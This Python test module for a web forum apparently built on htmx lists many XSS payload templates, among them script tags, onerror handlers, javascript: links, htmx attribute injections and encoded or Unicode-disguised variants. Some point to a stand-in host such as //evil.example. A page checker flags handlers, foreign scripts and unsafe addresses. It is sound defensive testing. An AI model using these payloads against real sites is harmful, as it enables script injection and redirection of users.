"""Texts that would like to run, and the judge of pages that shows whether one of them could.

`make test` asks each template and each form of a link with one call and one script, `make soak` with all.
"""

import re
from functools import lru_cache

from exchange.languages.text import normalise, unprintable
from tests.languages.test_xss import BREAKOUTS, FORMS, SCRIPTS, leads_somewhere_safe

from .pages import Page
from .selection import some

TEMPLATES = [
    *("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}//"),
    *(
        '"><script>{}</script>',
        "'><script>{}</script>",
        '" onfocus={} autofocus x="',
        "' onfocus={} x='",
    ),
    *(
        "</textarea><script>{}</script>",
        "</title><script>{}</script>",
        "</script><script>{}</script>",
    ),
    *(
        "</style><img src=x onerror={}>",
        "--><script>{}</script>",
        "]]><script>{}</script>",
        "</p></article>{}",
    ),
    *(
        '<a href="javascript:{}">x</a>',
        "<iframe srcdoc='<script>{}</script>'>",
        "<base href=//evil>{}",
    ),
    *("<form action=//evil><input name={}>", "<meta http-equiv=refresh content='0;//evil'>{}"),
    *(
        "<link rel=stylesheet href=//evil/{}>",
        "<style>@import '//evil/{}'</style>",
        "<object data={}>",
    ),
    *(
        "<button formaction=javascript:{}>",
        "<details ontoggle={} open>",
        "<math href=javascript:{}>",
    ),
    *(
        '<p hx-get="/{}" hx-trigger=load>',
        "<p data-hx-post=/{}>",
        '<p hx-on:click="{}">',
        "<p data-hx-on={}>",
    ),
    *(
        "<p hx-vals='js:{}'>",
        '<p x-on:click="{}">',
        "<template><script>{}</script></template>",
        "{{{{ {} }}}}",
    ),
    *(
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "\\x3cscript\\x3e{}",
        "%3Cscript%3E{}",
    ),
    *(
        "<ſcript>{}</ſcript>",
        "＜script＞{}＜/script＞",
        "<scr\u0000ipt>{}</script>",
        "<\u200bscript>{}</script>",
    ),
    *(
        "<xss style=behavior:url({})>",
        "<div id=main class=skip>{}</div>",
        "<!--><img onerror={}>-->",
        "<?{}?>",
    ),
]
CALLS = ["alert(1)", "alert`1`", "top['al'+'ert'](1)", "location='//evil.example'"]
VECTORS = list(
    dict.fromkeys(
        [
            *(
                template.format(call)
                for number, template in enumerate(TEMPLATES)
                for call in some(CALLS, len(CALLS), number)
            ),
            *(
                form.format(script, script)
                for number, form in enumerate(FORMS.values())
                for script in some(SCRIPTS, len(FORMS) // 2, number)
            ),
            *BREAKOUTS,
        ]
    )
)
# Out of an attribute in either quotes, a text area, a title, a script and a comment; the first fits a name.
BREAKOUTS_OF_ALL = [
    "\"'></textarea><b onclick=x>",
    "\"'></title></textarea></script>--><script>alert(1)</script>",
]
# What a form does not refuse for its unprintable characters, and what fits a title.
PRINTABLE = [vector for vector in VECTORS if not unprintable(normalise(vector))]
SHORT = [vector for vector in PRINTABLE if len(vector) < 150 and "\n" not in vector]

IN_A_POST = {
    *("a", "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p"),
    *("pre", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ADDRESSES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "srcset",
    "poster",
    "ping",
}


# What the composer says to htmx; no post may say anything to it.
OWN_HTMX = re.compile(
    r"(?:form|button)\[hx-post=/[a-z-]+/(?:threads/\d+/posts|threads/new|posts/\d+/edit)/\]"
    r"|form\[hx-target=this\]|form\[hx-swap=outerHTML\]"
    r"|button\[hx-target=previous \.preview-place\]|button\[hx-swap=innerHTML\]"
    r"|button\[hx-target=closest \[data-(?:figures|pictures)\]\]|button\[hx-swap=outerHTML\]"
)


# A picture below a post and its place, attribute by attribute: a post's words can make neither.
OWN_PICTURE = {
    "class": r"(?:photo )?thumb|photo|blur|picture-thumb|place-of|bell-drawing",
    "src": r"/pictures/[0-9a-f]{32}/[a-z0-9-]+\.webp(?:\?key=[\w:-]+)?|data:image/webp;base64,[A-Za-z0-9+/=]*",
    "srcset": r"(?:(?:, )?/pictures/[0-9a-f]{32}/[a-z0-9-]+\.webp(?:\?key=[\w:-]+)? \d+w)+",
    "sizes": r"\(max-width: \d+px\) calc\([0-9a-z .()*-]+\), \d+px",
    "loading": r"lazy",
    "decoding": r"async",
    "width": r"\d+",
    "height": r"\d+",
    "viewbox": r"0 0 \d+ \d+",
    "aria-hidden": r"true",
    "alt": r".*",
    "lang": r"[a-zA-Z-]+",
}


def is_own_picture(tag: str, attrs: dict[str, str]) -> bool:
    return tag in ("img", "svg") and all(
        re.fullmatch(OWN_PICTURE.get(name, "(?!)"), value, re.DOTALL)
        for name, value in {"class": "", **attrs}.items()
    )


@lru_cache(maxsize=1)
def parsed(html: str) -> Page:
    """Each judge of a page reads it, one after the other."""
    return Page(html)


def faults(html: str) -> list[str]:
    """Handlers, styles, scripts of others, fragments that a script obeys, and addresses elsewhere."""
    found = []
    for tag, attrs in parsed(html).elements:
        # Scripts take from the site's own templates, which bear no attribute; none stands in words.
        if is_own_picture(tag, attrs) or (tag == "template" and not attrs):
            continue
        if tag in ("iframe", "object", "embed", "base", "style", "svg", "math", "template", "img"):
            found.append(tag)
        if tag == "script" and not attrs.get("src", "").startswith("/static/"):
            found.append(f"script {attrs}")
        for name, value in attrs.items():
            plain = name.removeprefix("data-")
            if plain.startswith(("on", "hx-", "x-on", "@", ":")) or name in ("style", "srcdoc"):
                said = f"{tag}[{name}={value[:60]}]"
                found += [] if OWN_HTMX.fullmatch(said) else [said]
            if attrs.get("rel") == "icon" and value.startswith("data:image/svg+xml,%3Csvg "):
                continue  # the site's own drawing, written into the page
            if name in ADDRESSES and not (leads_somewhere_safe(value) or value[:1] in ("?", "")):
                found.append(f"{tag}[{name}={value[:60]}]")
    return found
